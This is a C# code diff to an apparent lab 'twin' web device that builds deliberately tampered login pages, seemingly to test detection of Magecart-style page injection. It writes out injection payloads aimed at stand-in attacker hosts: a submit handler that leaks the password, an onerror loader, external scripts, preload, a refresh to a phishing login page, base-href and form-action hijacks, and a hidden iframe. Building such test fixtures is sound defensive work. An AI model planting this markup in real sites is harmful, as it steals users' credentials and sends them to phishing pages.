@@ -197,6 +197,14 @@ public sealed class LabWebDevice : ILabTwin
         if (applied.Contains(TwinChanges.InlineScript))
             scripts.Add($"<script>document.addEventListener('submit', function (e) {{ new Image().src = '/favicon.ico?' + btoa(e.target.pass.value); }});</script>");
         if (applied.Contains(TwinChanges.ExternalScript)) scripts.Add($"<script src=\"http://{AttackerHost}/x.js\"></script>");
+        // Issue 13's second round: what injectors put in pages besides <script> (Magecart-style handlers, plugins,
+        // preloads, a refresh to a phishing copy, a base URL that moves every relative script to another site).
+        if (applied.Contains(TwinChanges.EventHandler))
+            scripts.Add("<img src=\"/img/logo.png\" alt=\"\" onerror=\"var s=document.createElement('script');s.src='//' + 'cdn-upd.example/u.js';document.head.appendChild(s)\">");
+        if (applied.Contains(TwinChanges.ExternalObject)) scripts.Add($"<embed src=\"http://{AttackerHost}/p.swf\" width=\"1\" height=\"1\">");
+        if (applied.Contains(TwinChanges.CodePreload)) scripts.Add($"<link rel=\"preload\" as=\"script\" href=\"https://{AttackerHost}/app.js\">");
+        if (applied.Contains(TwinChanges.RefreshRedirect)) scripts.Add($"<meta http-equiv=\"Refresh\" content=\"3; URL='https://{AttackerHost}/login'\">");
+        if (applied.Contains(TwinChanges.BaseHijack)) scripts.Insert(0, $"<base href=\"https://{AttackerHost}/\">");
         if (applied.Contains(TwinChanges.Reorder)) scripts.Reverse();
         var action = applied.Contains(TwinChanges.FormHijack) ? $" action=\"https://{AttackerHost}/collect\" method=\"post\"" : " action=\"/login\" method=\"post\"";
         var frame = applied.Contains(TwinChanges.ExternalFrame) ? $"<iframe src=\"https://{AttackerHost}/ad\" width=\"0\" height=\"0\" style=\"display:none\"></iframe>" : "";
